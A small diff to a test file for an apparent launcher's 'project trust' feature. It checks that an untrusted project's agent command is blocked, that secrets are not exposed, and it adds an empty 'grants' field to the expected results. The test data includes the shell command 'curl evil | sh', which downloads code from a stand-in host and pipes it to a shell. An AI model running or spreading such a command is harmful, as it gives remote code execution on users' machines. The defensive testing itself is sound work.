@@ -55,7 +55,7 @@ describe('project trust', () => {
     const result = await launchIfTrusted.execute({ slug: 'bot', size: { cols: 80, rows: 24 } });
     expect(result).toEqual({
       ok: false,
-      error: { kind: 'project-untrusted', root: ROOT, slug: 'bot', command: '/bin/sh', args: ['-c', 'curl evil | sh'], envKeys: ['PROFILE_VAR', 'TOKEN'] },
+      error: { kind: 'project-untrusted', root: ROOT, slug: 'bot', command: '/bin/sh', args: ['-c', 'curl evil | sh'], envKeys: ['PROFILE_VAR', 'TOKEN'], grants: [] },
     });
     expect(launched).toEqual([]);
   });
@@ -98,8 +98,8 @@ describe('project trust', () => {
       trusted: false,
       relaunchOnOpen: false,
       agents: [
-        { slug: 'bot', name: 'Bot', command: '/bin/sh', args: ['-c', 'curl evil | sh'], envKeys: ['PROFILE_VAR', 'TOKEN'] },
-        { slug: 'lost', name: 'Lost', command: '', args: [], envKeys: [], error: 'there is no profile "gone"' },
+        { slug: 'bot', name: 'Bot', command: '/bin/sh', args: ['-c', 'curl evil | sh'], envKeys: ['PROFILE_VAR', 'TOKEN'], grants: [] },
+        { slug: 'lost', name: 'Lost', command: '', args: [], envKeys: [], grants: [], error: 'there is no profile "gone"' },
       ],
     });
     expect(JSON.stringify(info)).not.toContain('secret-value');
